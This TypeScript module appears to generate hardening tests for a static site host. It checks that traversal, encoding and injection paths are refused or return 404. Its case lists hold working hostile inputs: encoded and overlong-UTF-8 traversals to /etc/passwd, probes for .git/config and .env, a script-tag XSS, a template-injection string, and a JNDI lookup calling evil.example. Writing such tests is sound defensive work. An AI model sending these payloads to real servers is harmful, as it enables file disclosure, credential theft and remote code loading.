import type { Deviation, HostCase, SampleFiles } from "../host-case";
import { pageHeaders, security } from "./expected";

const bytes: Deviation = {
  why: "takes bytes of a name as they are, which no file has",
  status: 404,
};

/** Addresses that climb, that are not text, or that mean something else to whoever reads them next. */
export function addressCases({ prefix, route }: SampleFiles): HostCase[] {
  const at = prefix + route;
  const without = "root:x:";
  const missing = (name: string, path: string): HostCase => ({
    name: `${name}: ${path.slice(0, 60)}`,
    path,
    status: 404,
    file: "404.html",
    headers: { ...pageHeaders, ...security },
    without,
  });
  const refused = (name: string, path: string, except: HostCase["except"] = {}): HostCase => ({
    name: `${name}: ${path.slice(0, 60)}`,
    path,
    status: 400,
    headers: { ...security, location: null },
    without,
    except,
  });
  const climbs = [
    "/../../../../../../etc/passwd",
    "/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/%2E%2E/%2E%2E/%2E%2E/etc/passwd",
    "/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    "/..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    `${at}/../../../../../etc/passwd`,
    `${prefix}/static/../../../../etc/passwd`,
    `${prefix}/..`,
    `${prefix}/../`,
  ];
  const odd: [string, string][] = [
    ["climbing, twice encoded", "/%252e%252e/%252e%252e/etc/passwd"],
    ["climbing, slashes twice encoded", "/..%252f..%252f..%252fetc%252fpasswd"],
    ["three dots", `${prefix}/.../.../etc/passwd`],
    ["dots and a semicolon", `${prefix}/..;/..;/etc/passwd`],
    ["dots, a parameter", `${prefix}/docs/..;a=b/intro`],
    ["a parameter", `${at};jsessionid=1`],
    ["a file of the machine", "/etc/passwd"],
    ["a file of the machine, below the site", `${prefix}/etc/passwd`],
    ["folder of versions", `${prefix}/.git`],
    ["folder of versions, its head", `${prefix}/.git/HEAD`],
    ["folder of versions, its settings", `${prefix}/.git/config`],
    ["folder of versions, its dot encoded", `${prefix}/%2egit/config`],
    ["secrets of the environment", `${prefix}/.env`],
    ["settings of another server", `${prefix}/.htaccess`],
    ["what a Mac leaves", `${prefix}/.DS_Store`],
    ["a hidden file deeper", `${at}/.env`],
    ["well-known without a file", `${prefix}/.well-known/nothing`],
    ["begins like well-known", `${prefix}/.well-known-not/security.txt`],
    ["rules of the site, encoded", `${prefix}/%5fredirects`],
    ["headers of the site, encoded", `${prefix}/%5fheaders`],
    ["the not-found page, encoded", `${prefix}/%34%30%34`],
    ["not-found page's folder", `${prefix}/404/index.html`],
    ["another page of that folder", `${prefix}/404/anything`],
    ["other case", at.replace("intro", "INTRO")],
    ["other case of a file", `${prefix}/ROBOTS.TXT`],
    ["a dot at the end", `${at}.`],
    ["a space at the end", `${at}%20`],
    ["a tab at the end", `${at}%09`],
    ["a plus for a space", `${at}+`],
    ["a line end", `${at}%0a`],
    ["a carriage return", `${at}%0d`],
    ["a question mark in a name", `${at}%3Fq`],
    ["a hash in a name", `${at}%23q`],
    ["a star", `${prefix}/*`],
    ["a quote", `${prefix}/%22`],
    ["markup", `${prefix}/%3Cscript%3Ealert(1)%3C/script%3E`],
    ["a template", `${prefix}/%7B%7B7*7%7D%7D`],
    ["a placeholder of a server", `${prefix}/$%7Bjndi:ldap://evil.example/a%7D`],
    ["placeholders of Caddy", `${prefix}/%7Bhttp.request.host%7D`],
    ["a variable of nginx", `${prefix}/$uri`],
    ["a percent sign, encoded", `${at}%25`],
    ["decomposed letters", `${prefix}/docs/strasse%CC%88`],
    ["a script that is not there", `${prefix}/component---src-pages-0123456789abcdef0123.js`],
    ["source map that is not there", `${prefix}/app-0123456789abcdef0123.js.map`],
    ["a folder without a page", `${prefix}/static`],
    ["page data without a file", `${prefix}/page-data`],
    ["a name of 300 letters", `${prefix}/${"a".repeat(300)}`],
    ["a name of 300 letters below a page", `${at}/${"a".repeat(300)}`],
    ["a name of 300 letters, encoded", `${prefix}/${"%C3%BC".repeat(300)}`],
    ["a path of 1,000 folders", `${prefix}${"/a".repeat(1_000)}`],
    ["a path of 5,000 letters", `${prefix}/${"a".repeat(5_000)}`],
  ];
  const broken: [string, string][] = [
    ["no percent", "/%zz"],
    ["no percent, in a page", `${at}%zz`],
    ["half a percent", "/%"],
    ["half a percent, one digit", "/%4"],
  ];
  const noText: [string, string][] = [
    ["overlong dots", "/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"],
    ["overlong slashes", "/..%c0%af..%c0%afetc/passwd"],
    ["three bytes too long", "/%e0%80%ae%e0%80%ae/etc/passwd"],
    ["half a letter", "/%c3"],
    ["a lone surrogate", "/%ed%a0%80"],
    ["a byte of no text", "/%ff"],
  ];
  return [
    ...climbs.map((path) => refused("climbing", path)),
    ...odd.map(([name, path]) => missing(name, path)),
    ...broken.map(([name, path]) =>
      refused(name, path, {
        caddy: { why: "the program's HTTP refuses it", status: 400, bare: true },
      }),
    ),
    ...noText.map(([name, path]) => refused(name, path, { nginx: bytes, caddy: bytes })),
    refused("NUL byte", "/%00"),
    refused("NUL byte behind a page", `${at}%00.html`),
    refused("backslashes", "/\\evil.example/"),
    refused("backslashes in the middle", `${prefix}/docs\\..\\..\\etc\\passwd`),
    refused("a backslash before a slash", "/\\/evil.example"),
  ];
}
